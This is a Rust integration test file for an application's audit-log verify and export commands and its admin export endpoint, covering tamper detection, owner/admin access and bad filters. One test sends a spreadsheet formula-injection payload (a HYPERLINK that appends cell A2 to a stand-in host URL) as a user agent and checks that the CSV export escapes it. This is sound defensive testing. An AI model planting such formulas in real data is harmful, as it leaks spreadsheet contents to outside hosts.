//! `lifeline audit verify` and `lifeline audit export`, through the real binary.

use domain::testing::fresh_databases;
use reqwest::{StatusCode, header};

use crate::support::{
    cli::{cli, create_org, create_user},
    client::{client, sign_in},
    process::Server,
};

#[tokio::test]
async fn audit_verify_passes_an_intact_log_and_names_the_altered_event() {
    for database in fresh_databases().await {
        let database = database.migrated().await;
        create_org(&database.url, "Acme", "owner@acme.test").await;
        // Three events, appended as the application appends them.
        let owner = domain::accounts::member(&database.db, 1)
            .await
            .unwrap()
            .unwrap();
        for i in 0..3 {
            domain::audit::record(
                &database.db,
                owner.org_id,
                domain::audit::Event {
                    action: domain::audit::AuditAction::MemberUnlocked,
                    actor: Some(&owner),
                    target: None,
                    outcome: domain::audit::Outcome::Success,
                    details: serde_json::json!({ "n": i, "text": "comma, \"quote\"" }),
                },
                &domain::audit::Source::default(),
                chrono::Utc::now(),
            )
            .await
            .unwrap();
        }

        let (ok, stdout, stderr) =
            cli(&database.url, &["audit", "verify", "--org", "acme"], "").await;
        assert!(ok, "{stderr}");
        // Creating the organization was the first event.
        assert!(stdout.contains("is intact: 4 events"), "{stdout}");

        let (ok, jsonl, stderr) = cli(
            &database.url,
            &[
                "audit",
                "export",
                "--org",
                "acme",
                "--format",
                "jsonl",
                "--since",
                "2026-01-01",
            ],
            "",
        )
        .await;
        assert!(ok, "{stderr}");
        let events: Vec<serde_json::Value> = jsonl
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect();
        assert_eq!(events.len(), 4);
        assert_eq!(events[0]["action"], "organization.created");
        assert_eq!(events[3]["seq"], 4);
        let (ok, csv, _) = cli(
            &database.url,
            &["audit", "export", "--org", "acme", "--format", "csv"],
            "",
        )
        .await;
        assert!(ok);
        assert!(csv.starts_with(domain::audit::CSV_HEADER));
        assert_eq!(csv.lines().count(), 5);

        // Bad arguments: one line, non-zero.
        for args in [
            vec!["audit", "export", "--org", "acme", "--format", "xml"],
            vec!["audit", "export", "--org", "acme", "--since", "yesterday"],
            vec!["audit", "verify", "--org", "nowhere"],
        ] {
            let (ok, _, stderr) = cli(&database.url, &args, "").await;
            assert!(!ok, "{args:?}");
            assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
        }

        // Someone edits event #2 in the database: verify names it and fails.
        database
            .execute("UPDATE audit_event SET details = '{\"n\":99}' WHERE seq = 2")
            .await;
        let (ok, _, stderr) = cli(&database.url, &["audit", "verify", "--org", "acme"], "").await;
        assert!(!ok);
        assert!(stderr.contains("event #2"), "{stderr}");
        assert!(stderr.contains("was altered"), "{stderr}");
    }
}

#[tokio::test]
async fn the_export_download_is_for_owners_and_admins_and_refuses_bad_filters() {
    let database = domain::testing::TestDatabase::sqlite().await;
    create_org(&database.url, "Acme", "owner@acme.test").await;
    create_user(&database.url, "acme", "m@acme.test", "member").await;
    let server = Server::start(&database.url).await;
    let client = client();
    let owner = sign_in(&client, &server, "owner@acme.test").await;
    let member = sign_in(&client, &server, "m@acme.test").await;
    let get = |session: Option<String>, query: &'static str| {
        let mut request = client.get(server.url(&format!("/admin/audit/export?{query}")));
        if let Some(id) = session {
            request = request.header(header::COOKIE, format!("lifeline_session={id}"));
        }
        request.send()
    };

    let csv = get(Some(owner.clone()), "format=csv&action=member.")
        .await
        .unwrap();
    assert_eq!(csv.status(), StatusCode::OK);
    assert_eq!(
        csv.headers().get(header::CACHE_CONTROL).unwrap(),
        "no-store"
    );
    let text = csv.text().await.unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], domain::audit::CSV_HEADER);
    assert_eq!(lines.len(), 2, "{text}");
    assert!(lines[1].contains(",member.added,m@acme.test,"), "{text}");

    let jsonl = get(Some(owner.clone()), "format=jsonl").await.unwrap();
    assert_eq!(jsonl.status(), StatusCode::OK);
    let count = jsonl.text().await.unwrap().lines().count();
    assert!(count >= 2, "every event so far: {count}");

    for (session, query, status) in [
        (None, "format=csv", StatusCode::UNAUTHORIZED),
        (Some(member.clone()), "format=csv", StatusCode::FORBIDDEN),
        (Some(owner.clone()), "format=xml", StatusCode::BAD_REQUEST),
        (
            Some(owner.clone()),
            "from=yesterday",
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            Some(owner.clone()),
            "outcome=maybe",
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
    ] {
        let response = get(session, query).await.unwrap();
        assert_eq!(response.status(), status, "{query}");
        let body = response.text().await.unwrap();
        assert!(!body.to_lowercase().contains("sql"), "{body}");
    }
}

/// A user agent is anyone's to choose, with no credentials but a member's email: one that a
/// spreadsheet would evaluate lands in the CSV exports as text, and verbatim in JSON lines.
#[tokio::test]
async fn a_formula_sent_as_a_user_agent_is_exported_as_text() {
    const FORMULA: &str = "=HYPERLINK(\"http://x.invalid/?\"&A2,\"Verify\")";
    for database in fresh_databases().await {
        create_org(&database.url, "Acme", "owner@acme.test").await;
        let server = Server::start(&database.url).await;
        let client = client();
        let step1 = client
            .post(server.url("/api/sign_in/email"))
            .header(header::ACCEPT, "application/json")
            .header(header::USER_AGENT, FORMULA)
            .form(&[("email", "owner@acme.test")])
            .send()
            .await
            .unwrap();
        let (id, _) = crate::support::client::session_cookie(&step1).unwrap();
        let refused = client
            .post(server.url("/api/sign_in/password"))
            .header(header::ACCEPT, "application/json")
            .header(header::USER_AGENT, FORMULA)
            .header(header::COOKIE, format!("lifeline_session={id}"))
            .form(&[("password", "not the password")])
            .send()
            .await
            .unwrap();
        assert!(refused.status().is_client_error());

        let session = sign_in(&client, &server, "owner@acme.test").await;
        let export = |format: &'static str| {
            let (client, session) = (&client, &session);
            let url = server.url(&format!("/admin/audit/export?format={format}"));
            async move {
                client
                    .get(url)
                    .header(header::COOKIE, format!("lifeline_session={session}"))
                    .send()
                    .await
                    .unwrap()
                    .text()
                    .await
                    .unwrap()
            }
        };
        let csv = export("csv").await;
        assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
        for line in csv.lines() {
            assert!(!line.contains(",=") && !line.contains(",\"="), "{line}");
        }
        let jsonl = export("jsonl").await;
        let agent = serde_json::to_string(FORMULA).unwrap();
        assert!(
            jsonl.contains(&agent),
            "JSON lines keep it verbatim: {jsonl}"
        );
        let (ok, cli_csv, stderr) = cli(
            &database.url,
            &["audit", "export", "--org", "acme", "--format", "csv"],
            "",
        )
        .await;
        assert!(ok, "{stderr}");
        assert!(cli_csv.contains("\"'=HYPERLINK("), "{cli_csv}");
    }
}
